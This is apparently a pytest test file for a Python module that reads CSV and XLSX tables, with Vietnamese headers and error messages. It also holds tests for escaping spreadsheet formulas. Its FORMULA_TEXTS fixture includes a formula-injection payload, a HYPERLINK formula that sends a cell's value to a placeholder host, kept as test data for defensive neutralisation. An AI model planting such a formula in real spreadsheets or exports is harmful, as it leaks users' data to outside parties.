"""read_table: CSV and XLSX files into rows that remember where each cell was."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest

from dti.engine.errors import InputError
from dti.engine.tables import column_letter, normalize_header, read_table, spreadsheet_text, spreadsheet_value


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def values(table) -> list[dict[str, object]]:
    return [{key: cell.value for key, cell in row.cells.items()} for row in table.rows]


def workbook(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    wb = openpyxl.Workbook()
    first = True
    for title, rows in sheets.items():
        ws = wb.active if first else wb.create_sheet()
        first = False
        ws.title = title
        for row in rows:
            ws.append(row)
    wb.save(path)
    return path


# --- CSV ---------------------------------------------------------------------------------


def test_csv_with_commas(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "unit,value\nUBND huyện A,1\nUBND huyện B,2\n"))
    assert table.headers == ["unit", "value"]
    assert values(table) == [{"unit": "UBND huyện A", "value": "1"}, {"unit": "UBND huyện B", "value": "2"}]
    assert [row.number for row in table.rows] == [2, 3]
    assert table.places == {"unit": "dòng 1, cột A", "value": "dòng 1, cột B"}
    assert table.rows[1].cells["value"].place == "dòng 3, cột B (value)"
    assert table.file == str(tmp_path / "a.csv")


def test_csv_with_semicolons_keeps_decimal_commas(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "unit;value\nA;37,9\nB;58,33\n"))
    assert table.headers == ["unit", "value"]
    assert values(table) == [{"unit": "A", "value": "37,9"}, {"unit": "B", "value": "58,33"}]


def test_csv_with_tabs(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "unit\tvalue\nA\t37,9\n"))
    assert values(table) == [{"unit": "A", "value": "37,9"}]


def test_csv_quoted_comma_stays_in_cell(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", 'unit,value\n"UBND huyện A, Hà Nam","81,18"\n'))
    assert values(table) == [{"unit": "UBND huyện A, Hà Nam", "value": "81,18"}]


def test_csv_with_utf8_bom(tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes("\ufeffĐơn vị,Giá trị\nUBND huyện Kim Bảng,1\n".encode())
    table = read_table(path)
    assert table.headers == ["unit", "value"]
    assert values(table) == [{"unit": "UBND huyện Kim Bảng", "value": "1"}]


def test_csv_crlf_line_endings(tmp_path: Path) -> None:
    path = tmp_path / "crlf.csv"
    path.write_bytes(b"unit;value\r\nA;1,5\r\n")
    assert values(read_table(path)) == [{"unit": "A", "value": "1,5"}]


def test_csv_blank_rows_are_skipped_and_row_numbers_kept(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "\n\nunit,value\nA,1\n\n , \nB,2\n,\n"))
    assert values(table) == [{"unit": "A", "value": "1"}, {"unit": "B", "value": "2"}]
    assert [row.number for row in table.rows] == [4, 7]
    assert table.places["unit"] == "dòng 3, cột A"


def test_semicolon_csv_with_a_blank_first_line(tmp_path: Path) -> None:
    # Blank rows are skipped before the header; the separator must be judged on the header
    # line, not on the empty first line (which has no separator at all).
    table = read_table(write(tmp_path / "a.csv", "\nunit;value\nA;1,5\n"))
    assert table.headers == ["unit", "value"]
    assert values(table) == [{"unit": "A", "value": "1,5"}]


def test_short_row_gets_empty_cells(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "unit,value,note\nA,1\n"))
    row = table.rows[0]
    assert row.cells["note"].value is None
    assert row.get("note") is None
    assert row.text("note") == ""
    assert row.get("value") is not None


def test_trailing_empty_cells_beyond_the_header_are_fine(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "unit,value\nA,1,,\n"))
    assert values(table) == [{"unit": "A", "value": "1"}]


def test_row_text_is_stripped_nfc(tmp_path: Path) -> None:
    nfd = unicodedata.normalize("NFD", "UBND huyện Kim Bảng")
    table = read_table(write(tmp_path / "a.csv", f"unit,value\n  {nfd}  ,1\n"))
    assert table.rows[0].text("unit") == "UBND huyện Kim Bảng"
    assert unicodedata.is_normalized("NFC", table.rows[0].text("unit"))


def test_header_only_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError) as info:
        read_table(write(tmp_path / "a.csv", "unit,value\n\n,\n"))
    assert "chỉ có dòng tiêu đề" in info.value.message
    assert str(tmp_path / "a.csv") in str(info.value)


@pytest.mark.parametrize("text", ["", "\n\n", " , \n,,\n"])
def test_empty_file_is_refused(tmp_path: Path, text: str) -> None:
    with pytest.raises(InputError) as info:
        read_table(write(tmp_path / "a.csv", text))
    assert "không có dữ liệu" in info.value.message


def test_cell_beyond_the_last_header_names_row_and_column(tmp_path: Path) -> None:
    with pytest.raises(InputError) as info:
        read_table(write(tmp_path / "a.csv", "unit,value\nA,1\nB,2,99\n"))
    assert info.value.place == "dòng 3, cột C"
    assert "không có tiêu đề cột" in info.value.message
    assert str(info.value) == f"{tmp_path / 'a.csv'}, dòng 3, cột C: ô có dữ liệu nhưng không có tiêu đề cột"


def test_cell_under_an_empty_header_names_row_and_column(tmp_path: Path) -> None:
    with pytest.raises(InputError) as info:
        read_table(write(tmp_path / "a.csv", "unit,,value\nA,,1\nB,x,2\n"))
    assert info.value.place == "dòng 3, cột B"


def test_empty_header_column_with_empty_cells_is_ignored(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "unit,,value\nA,,1\n"))
    assert table.headers == ["unit", "value"]
    assert table.rows[0].cells["value"].place == "dòng 2, cột C (value)"


def test_duplicate_header_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError) as info:
        read_table(write(tmp_path / "a.csv", "unit,value,unit\nA,1,B\n"))
    assert info.value.place == "dòng 1, cột C"
    assert "trùng với cột A" in info.value.message


def test_duplicate_header_through_a_vietnamese_alias(tmp_path: Path) -> None:
    with pytest.raises(InputError) as info:
        read_table(write(tmp_path / "a.csv", "unit,Đơn vị\nA,B\n"))
    assert info.value.place == "dòng 1, cột B"
    assert "'unit'" in info.value.message


def test_non_utf8_csv_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "latin.csv"
    path.write_bytes("unit,value\nCafé,1\n".encode("latin-1"))
    with pytest.raises(InputError) as info:
        read_table(path)
    assert "UTF-8" in info.value.message
    assert info.value.file == str(path)


def test_utf16_csv_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "u16.csv"
    path.write_bytes("unit,value\nA,1\n".encode("utf-16"))
    with pytest.raises(InputError, match="UTF-8"):
        read_table(path)


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 8,  # not UTF-8 at all
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",  # an image named .csv
        b"unit,value\nA,\x00\x01\x02\x03\n",  # valid UTF-8 with NUL bytes
    ],
)
def test_binary_garbage_named_csv_is_refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "rác.csv"
    path.write_bytes(data)
    with pytest.raises(InputError) as info:
        read_table(path)
    assert info.value.file == str(path)


def test_huge_csv_field_is_an_input_error(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", 'unit,value\nA,"' + "x" * 200_000 + '"\n')
    with pytest.raises(InputError) as info:
        read_table(path)
    assert "CSV" in info.value.message


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(InputError) as info:
        read_table(tmp_path / "không-có.csv")
    assert info.value.message == "không tìm thấy tệp"
    assert info.value.file == str(tmp_path / "không-có.csv")


def test_directory_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "thư-mục.csv"
    folder.mkdir()
    with pytest.raises(InputError, match="thư mục"):
        read_table(folder)


@pytest.mark.parametrize("name", ["a.txt", "a.xls", "a.ods", "a"])
def test_unsupported_extension(tmp_path: Path, name: str) -> None:
    path = write(tmp_path / name, "unit,value\nA,1\n")
    with pytest.raises(InputError) as info:
        read_table(path)
    assert ".csv hoặc .xlsx" in info.value.message


def test_sheet_name_with_csv_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="CSV không có trang tính"):
        read_table(write(tmp_path / "a.csv", "unit\nA\n"), sheet="Trang 1")


# --- headers -----------------------------------------------------------------------------


def test_vietnamese_header_aliases(tmp_path: Path) -> None:
    text = "Đơn vị,Nhóm,Mã,Trường,Giá trị,Tổng điểm,Tỷ lệ (%),Xếp hạng,Chỉ số\nA,huyen,I.1,a,1,2,3,4,x\n"
    table = read_table(write(tmp_path / "a.csv", text))
    assert table.headers == ["unit", "group", "code", "field", "value", "total", "percent", "rank", "Chỉ số"]


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ("Đơn vị", "unit"),
        ("ĐƠN VỊ", "unit"),
        ("  Tên đơn vị ", "unit"),
        ("Mã", "code"),
        ("mã", "code"),
        ("Giá trị", "value"),
        ("Trường", "field"),
        ("Nhóm xếp hạng", "group"),
        ("Hạng", "rank"),
        ("Tổng", "total"),
        ("Tỷ lệ", "percent"),
        ("unit", "unit"),
        ("1.1", "1.1"),
        ("max:total", "max:total"),
        (None, ""),
    ],
)
def test_normalize_header(header: object, key: str) -> None:
    assert normalize_header(header) == key


def test_decomposed_vietnamese_header_is_recognised(tmp_path: Path) -> None:
    text = unicodedata.normalize("NFD", "Đơn vị,Mã,Giá trị") + "\nA,I.1,3\n"
    table = read_table(write(tmp_path / "a.csv", text))
    assert table.headers == ["unit", "code", "value"]


@pytest.mark.parametrize(("index", "letter"), [(0, "A"), (1, "B"), (25, "Z"), (26, "AA"), (27, "AB"), (701, "ZZ")])
def test_column_letter(index: int, letter: str) -> None:
    assert column_letter(index) == letter


# --- XLSX --------------------------------------------------------------------------------


def test_xlsx_keeps_typed_cells(tmp_path: Path) -> None:
    path = workbook(
        tmp_path / "a.xlsx",
        {
            "Kết quả": [
                ["Đơn vị", "1.1", "1.2", "ghi chú"],
                ["UBND huyện A", 37.9, 10, "x"],
                ["UBND huyện B", 0.5, 3, True],
            ]
        },
    )
    table = read_table(path)
    assert table.headers == ["unit", "1.1", "1.2", "ghi chú"]
    rows = values(table)
    assert rows[0] == {"unit": "UBND huyện A", "1.1": 37.9, "1.2": 10, "ghi chú": "x"}
    assert isinstance(rows[0]["1.1"], float)
    assert isinstance(rows[0]["1.2"], int)
    assert rows[1]["ghi chú"] is True
    assert table.rows[0].cells["1.1"].place == "trang 'Kết quả', dòng 2, cột B (1.1)"
    assert table.places["unit"] == "trang 'Kết quả', dòng 1, cột A"


def test_xlsx_row_text_of_whole_float(tmp_path: Path) -> None:
    table = read_table(workbook(tmp_path / "a.xlsx", {"S": [["unit", "code"], ["A", 3.0]]}))
    assert table.rows[0].text("code") == "3"


def test_xlsx_blank_rows_skipped(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", {"S": [[None, None], ["unit", "value"], ["A", 1], [None, None], ["B", 2]]})
    table = read_table(path)
    assert [row.number for row in table.rows] == [3, 5]
    assert values(table) == [{"unit": "A", "value": 1}, {"unit": "B", "value": 2}]


def test_xlsx_reads_first_sheet_unless_named(tmp_path: Path) -> None:
    path = workbook(
        tmp_path / "a.xlsx",
        {"Tổng hợp": [["unit", "value"], ["A", 1]], "Chi tiết": [["unit", "1.1"], ["B", 9.5]]},
    )
    assert values(read_table(path)) == [{"unit": "A", "value": 1}]
    named = read_table(path, sheet="Chi tiết")
    assert values(named) == [{"unit": "B", "1.1": 9.5}]
    assert named.rows[0].cells["1.1"].place.startswith("trang 'Chi tiết', dòng 2, cột B")


def test_xlsx_missing_sheet_lists_the_sheets(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", {"Tổng hợp": [["unit"], ["A"]], "Chi tiết": [["unit"], ["B"]]})
    with pytest.raises(InputError) as info:
        read_table(path, sheet="Năm 2024")
    assert "'Năm 2024'" in info.value.message
    assert "Tổng hợp, Chi tiết" in info.value.message
    assert info.value.file == str(path)


def test_xlsx_cell_outside_headers_names_sheet_row_and_column(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", {"Điểm": [["unit", "value"], ["A", 1, None, 5]]})
    with pytest.raises(InputError) as info:
        read_table(path)
    assert info.value.place == "trang 'Điểm', dòng 2, cột D"


def test_xlsx_header_only_names_the_sheet(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", {"Điểm": [["unit", "value"]]})
    with pytest.raises(InputError) as info:
        read_table(path)
    assert "chỉ có dòng tiêu đề" in info.value.message
    assert info.value.place == "trang 'Điểm'"


def test_xlsx_empty_first_sheet(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", {"Hướng dẫn": [], "Dữ liệu": [["unit"], ["A"]]})
    with pytest.raises(InputError) as info:
        read_table(path)
    assert "không có dữ liệu" in info.value.message
    assert info.value.place == "trang 'Hướng dẫn'"


def test_xlsx_duplicate_header(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", {"S": [["Mã", "code"], ["I.1", "I.2"]]})
    with pytest.raises(InputError) as info:
        read_table(path)
    assert info.value.place == "trang 'S', dòng 1, cột B"


def _zip_bytes(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 8,
        b"",
        b"PK\x03\x04 truncated",
        b"unit,value\nA,1\n",
        _zip_bytes({"hello.txt": "xin chào"}),
        _zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "không phải xml"}),
    ],
    ids=["random", "empty", "truncated-zip", "csv-named-xlsx", "zip-not-xlsx", "broken-xlsx-parts"],
)
def test_corrupt_xlsx_is_refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "hỏng.xlsx"
    path.write_bytes(data)
    with pytest.raises(InputError) as info:
        read_table(path)
    assert "không mở được tệp Excel" in info.value.message
    assert info.value.file == str(path)


def test_xlsx_extension_is_case_insensitive(tmp_path: Path) -> None:
    path = workbook(tmp_path / "A.XLSX", {"S": [["unit"], ["A"]]})
    assert values(read_table(path)) == [{"unit": "A"}]


FORMULA_TEXTS = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)", "\tx", "\rx", "-"]


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_spreadsheet_text_neutralises_a_formula_and_reads_back(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_value(spreadsheet_text(text)) == text


@pytest.mark.parametrize("text", ["UBND huyện Một", "", "'quoted", "'", "1,5", "−1,67", "a=b", " =x"])
def test_spreadsheet_text_leaves_other_text(text: str) -> None:
    assert spreadsheet_text(text) == text
    assert spreadsheet_value(text) == text  # an apostrophe not before a dangerous character is the person's own


def test_spreadsheet_value_drops_exactly_one_apostrophe() -> None:
    assert spreadsheet_text("'=x") == "''=x"  # a person's own apostrophe before "=" survives the round trip
    assert spreadsheet_value("''=x") == "'=x"
    assert spreadsheet_value("'=x") == "=x"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_read_table_reads_neutralised_text_back(tmp_path: Path, suffix: str) -> None:
    rows = [["unit", "value"], *([spreadsheet_text(text), -1.5] for text in FORMULA_TEXTS)]
    path = tmp_path / f"t{suffix}"
    if suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    else:
        workbook = openpyxl.Workbook()
        for row in rows:
            workbook.active.append(row)
        workbook.save(path)
    table = read_table(path)
    assert [row.cells["unit"].value for row in table.rows] == FORMULA_TEXTS
    assert {str(row.cells["value"].value) for row in table.rows} == {"-1.5"}  # a negative number stays as written
